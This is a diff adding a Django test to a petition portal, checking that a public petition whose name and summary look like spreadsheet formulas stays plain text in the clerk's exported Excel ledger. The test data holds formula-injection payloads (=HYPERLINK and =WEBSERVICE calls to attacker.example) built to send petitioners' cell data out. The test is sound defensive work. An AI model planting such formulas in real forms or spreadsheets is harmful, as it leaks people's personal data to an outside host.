@@ -7,6 +7,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from huanghe_portal.ledgers import LedgerImportError
+from huanghe_portal.tests.helpers import assert_no_live_formula
 from petitions import ledgers
 from petitions.models import Petition
 
@@ -111,3 +112,21 @@ def test_ledger_pages(client, petition_clerk, leader, village):
     assert Petition.objects.count() == 2
     response = client.get(reverse("petitions:ledger-export"))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+
+
+def test_a_public_petition_named_like_a_formula_stays_text_in_the_clerks_ledger(
+    client, api_client, petition_clerk
+):
+    name = '=HYPERLINK("http://attacker.example/?d="&G2&H2,"点击查看")'
+    summary = '=WEBSERVICE("http://attacker.example/?"&G2)'
+    response = api_client.post(
+        reverse("api:public-petition-create"),
+        {"petitioner_name": name, "phone": "13812345678", "summary": summary},
+        format="json",
+    )
+    assert response.status_code == 201
+    client.force_login(petition_clerk)
+
+    content = client.get(reverse("petitions:ledger-export")).content
+
+    assert_no_live_formula(content, name, summary)
